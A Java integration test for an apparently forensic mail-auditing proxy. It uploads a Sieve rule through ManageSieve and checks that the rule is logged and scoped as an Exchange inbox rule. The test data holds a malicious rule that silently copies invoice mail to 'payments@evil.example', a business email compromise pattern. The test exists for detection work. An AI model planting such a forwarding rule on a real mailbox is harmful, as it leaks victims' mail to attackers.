package dev.mailtrail.app.serve;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailtrail.app.Mt;
import dev.mailtrail.app.pipeline.AuditPipeline;
import dev.mailtrail.app.pipeline.PipelineOptions;
import dev.mailtrail.proxy.config.ProxyConfigFile;
import dev.mailtrail.proxy.dovecot.DovecotInstance;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code mt serve} with a ManageSieve listener from its configuration file: a forwarding rule uploaded and activated
 * with sieve-connect is stored as Exchange's New-InboxRule and Enable-InboxRule, and {@code mt scope} names the rule
 * with its forwarding address, as it does a Microsoft 365 rule.
 */
class ManageSieveServeTest {

    @TempDir
    Path dir;

    @Test
    void aForwardingRuleMadeOverManageSieveIsInTheScopeOfTheMailbox() throws Exception {
        try (DovecotInstance dovecot =
                DovecotInstance.startWithSieve(Files.createDirectories(dir.resolve("dovecot")))) {
            Path conf = dir.resolve("proxy.conf");
            Files.writeString(conf, """
                    [upstream managesieve]
                    host = 127.0.0.1
                    port = %d

                    [listener sieve]
                    protocol = managesieve
                    address = 127.0.0.1
                    port = 0
                    """.formatted(dovecot.sievePort()));
            Path data = dir.resolve("data");
            AuditingProxy proxy = AuditingProxy.start(ProxyConfigFile.read(conf), data, Clock.systemUTC());
            int port = proxy.addresses().get("sieve").getPort();
            Files.writeString(dir.resolve("out.sieve"), """
                    require ["copy"];
                    # rule:[Payments]
                    if header :contains "subject" "invoice" {
                        redirect :copy "payments@evil.example";
                    }
                    """);
            Files.writeString(dir.resolve("commands"), "list\nupload out.sieve out\nactivate out\n");
            Process p = new ProcessBuilder(
                            "sieve-connect",
                            "--nosrv",
                            "--server",
                            "127.0.0.1",
                            "--port",
                            String.valueOf(port),
                            "--user",
                            "alice",
                            "--passwordfd",
                            "0",
                            "--notlsverify",
                            "--exec",
                            dir.resolve("commands").toString())
                    .directory(dir.toFile())
                    .redirectErrorStream(true)
                    .start();
            p.getOutputStream().write((DovecotInstance.PASSWORD + "\n").getBytes(StandardCharsets.UTF_8));
            p.getOutputStream().close();
            String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(p.waitFor()).as(out + dovecot.log()).isZero();
            proxy.close();

            StringBuilder exported = new StringBuilder();
            try (AuditPipeline reopened =
                    AuditPipeline.open(data, Clock.systemUTC(), PipelineOptions.defaults(), "test")) {
                reopened.unifiedLog().export(r -> exported.append(r.auditData()).append('\n') != null);
            }
            assertThat(exported.toString())
                    .contains("\"Operation\":\"New-InboxRule\"")
                    .contains("\"Operation\":\"Enable-InboxRule\"")
                    .contains("{\"Name\":\"ForwardTo\",\"Value\":\"payments@evil.example\"}")
                    .contains("{\"Name\":\"ExternalRecipients\",\"Value\":\"payments@evil.example\"}");
            Path records = dir.resolve("records.jsonl");
            Files.writeString(records, exported);
            Path caseDir = dir.resolve("case");
            assertThat(mt("import", records.toString(), "--case", caseDir.toString()))
                    .startsWith("0:");
            String scope = mt(
                    "scope",
                    "--case",
                    caseDir.toString(),
                    "--mailbox",
                    "alice",
                    "--attacker-ip",
                    "127.0.0.1",
                    "--format",
                    "text");
            assertThat(scope).startsWith("0:").contains("\"Payments\"").contains("forwards to payments@evil.example");
        }
    }

    private static String mt(String... args) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PrintStream print = new PrintStream(out, true, StandardCharsets.UTF_8);
        int status = Mt.run(args, print, print);
        return status + ":" + out.toString(StandardCharsets.UTF_8);
    }
}
